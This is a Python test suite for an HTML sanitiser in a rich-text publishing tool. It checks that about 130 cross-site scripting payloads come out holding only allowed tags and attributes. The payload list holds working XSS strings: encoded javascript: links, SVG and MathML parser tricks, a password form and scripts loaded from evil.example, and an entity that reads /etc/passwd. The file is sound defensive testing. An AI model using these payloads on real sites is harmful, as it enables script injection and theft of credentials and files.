"""Nothing that runs, calls home or disguises itself gets through, however it is written."""

from html.parser import HTMLParser

import pytest

from columns.richtext import marked, pieces, sanitise
from neican.kernel.sentences import Names

TAGS = {
    *"p h2 h3 h4 strong em s sub sup a br code ul ol li blockquote figure img figcaption".split(),
    *"cite span table caption thead tbody tr th td hr pre".split(),
}
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "width", "height", "data-image"},
    "ol": {"start"},
    "th": {"colspan", "rowspan", "scope"},
    "td": {"colspan", "rowspan"},
    "hr": {"class"},
    "p": {"class"},
    "span": {"class"},
}
CLASSES = {"hr": {"paywall-cut"}, "p": {"source"}, "span": {"note"}}
BEGINNINGS = ("http://", "https://", "mailto:", "/", "#")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/y>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='/media/a.webp' onload=alert(1)>",
    '<img src="/media/a.webp"onerror="alert(1)">',
    "<img src=`x` onerror=alert(1)>",
    "<img \x00src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=data:text/html;base64,PHNjcmlwdD4=>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=/media/../admin/logout/>",
    "<img src=/media/%2e%2e/x>",
    "<img src=//evil.example/media/a.webp>",
    "<img src=https://evil.example/media/a.webp>",
    "<img src='/media/a.webp?x=1'>",
    "<img srcset='https://evil.example/a 1x' src='/media/a.webp'>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img src=/media/a.webp width='1;x' height=99999999 data-image=x>",
    "<p onclick=alert(1)>x</p>",
    "<p/onmouseover='alert(1)'/>x",
    "<p ONCLICK\n=\nalert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    "<p class='source evil' id=x name=y data-x=1 aria-hidden=true tabindex=1>x</p>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#0000058alert(1)">x</a>',
    '<a href="\u2003javascript:alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="\u3000javascript:alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="java\u00adscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://a.example/x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/\\evil.example/x">x</a>',
    '<a href="\\\\evil.example/x">x</a>',
    '<a href="/\t/evil.example">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a href="https://a.example/ onclick=alert(1)">x</a>',
    "<a href='https://a.example/\"onmouseover=\"alert(1)'>x</a>",
    '<a href="/x" title=\'"><script>alert(1)</script>\'>x</a>',
    '<a href="/x" target=_blank rel=opener ping=//evil.example download>x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=data:image/svg+xml,x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><desc><p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>p{background:url(https://evil.example)}</style>",
    "<body onload=alert(1)>",
    "<html xmlns:x><x:script>alert(1)</x:script>",
    "<form action=https://evil.example><input type=password><button>登录</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<isindex action=javascript:alert(1)>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><p>&y;</p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<table><td background='javascript:alert(1)'>x</td></table>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<td colspan=99999 rowspan='-1' scope='x onclick=y'>x</td>",
    "<ol start='1 onclick=alert(1)'><li value=3 type=a>x</li></ol>",
    "<span class='note' onclick=alert(1)>x</span>",
    "<span class='note'><script>alert(1)</script><img src=x onerror=alert(1)>x</span>",
    "<hr class=paywall-cut onclick=alert(1)>",
    "<p style='mso-list:l0 level1'><script>alert(1)</script>x</p>",
    "<p hidden><script>alert(1)</script></p><p style=x>x</p>",
    "<span style='font-weight:bold' onclick=alert(1)>x</span>",
    "<b style='font-weight:normal' onclick=alert(1)>x</b>",
    "<p class=MsoNormal title='--><script>alert(1)</script>'>x</p>",
    "<p style='x'><textarea></p><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<select><style><p style='</style><img src=x onerror=alert(1)>'>",
    "<figure onclick=alert(1)><img src=/media/a.webp><figcaption onclick=alert(1)>x",
    "<pre><code onclick=alert(1)><script>alert(1)</script></code></pre>",
    "\ud800<script>alert(1)</script>",
    "\u202ealert(1)<p>x\u2066y</p>",
    "<p>" * 3000 + "<script>alert(1)</script>",
    "<div>" * 3000 + "<img src=x onerror=alert(1)>",
    "<b><i>" * 1500 + "<img src=x onerror=alert(1)>",
]


class Reading(HTMLParser):
    """Collects what the text would make a browser build."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()):
                self.faults.append(f"{tag} {name}")
            elif name == "class" and value not in CLASSES[tag]:
                self.faults.append(f"{tag}.{value}")
            elif name == "href" and not self._is_plain(value or ""):
                self.faults.append(f"href {value}")
            elif name == "src" and not (value or "").startswith("/media/"):
                self.faults.append(f"src {value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"declaration {data}")

    @staticmethod
    def _is_plain(address: str) -> bool:
        is_ours = address.startswith(BEGINNINGS) and address[:2] not in ("//", "/\\")
        return is_ours and not any(character <= " " for character in address)


def faults(html: str) -> list[str]:
    """What stands in the text and may not."""
    reading = Reading()
    reading.feed(html)
    reading.close()
    return reading.faults


def test_the_measure_itself_finds_faults() -> None:
    assert faults("<p onclick=x>x</p><script></script><!--x-->") == [
        "p onclick",
        "script",
        "comment x",
    ]
    assert faults("<a href='javascript:x'>x</a><img src=//e/x>") == [
        "href javascript:x",
        "src //e/x",
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_only_what_is_allowed_comes_out(payload: str) -> None:
    wrappings = (payload, f"<p>前{payload}后</p>", f"<ul><li>{payload}", f"<table><td>{payload}")
    for html in wrappings:
        clean = sanitise(html)
        assert faults(clean) == []
        assert sanitise(clean) == clean


@pytest.mark.parametrize("payload", PAYLOADS)
def test_marking_adds_nothing_that_runs(payload: str) -> None:
    clean = sanitise(f"<p>一{payload}</p>")
    shown = "".join(piece.html for piece in pieces(clean, Names()))
    before, after = marked(clean, clean.replace("一", "二"))
    for html in (shown, before, after):
        assert not {fault.split()[0] for fault in faults(html)} - {*TAGS, "del", "ins"}
        assert "alert(1)" not in html or "<script" not in html.lower()
        assert "onerror=" not in html.replace("&gt;", ">") or "<img src=x" not in html


def test_a_written_script_stays_readable_text() -> None:
    assert sanitise("<p>&lt;script&gt;</p>") == "<p>&lt;script&gt;</p>"
